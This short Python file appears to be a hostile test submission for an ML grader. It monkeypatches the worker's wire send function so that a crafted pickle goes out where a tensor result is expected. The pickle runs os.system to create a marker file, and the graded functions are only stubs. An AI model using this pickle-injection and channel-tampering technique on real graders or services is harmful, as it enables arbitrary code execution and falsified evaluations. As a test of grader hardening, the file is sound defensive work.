"""Sends a pickle where tensors are expected."""
import json
import struct
import sys

wire = next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))
honest = wire.send
PICKLE = b"cos\nsystem\n(S'touch /tmp/mlgrader-breach-wire'\ntR."


def forged(channel, header, blob=()):
    if "value" not in header.get("ok", {}):
        return honest(channel, header, blob)
    text = json.dumps({"id": header["id"], "ok": {"value": {"$": "tensor", "k": "t0"}}}).encode()
    channel.sendall(struct.pack(">4sIQ", b"mlg1", len(text), len(PICKLE)) + text + PICKLE)


wire.send = forged


def stack_rows(vectors):
    return vectors[0]


def score_matrix(Q, K):
    return Q.sum()


def favourite_movie(S, user):
    return -1
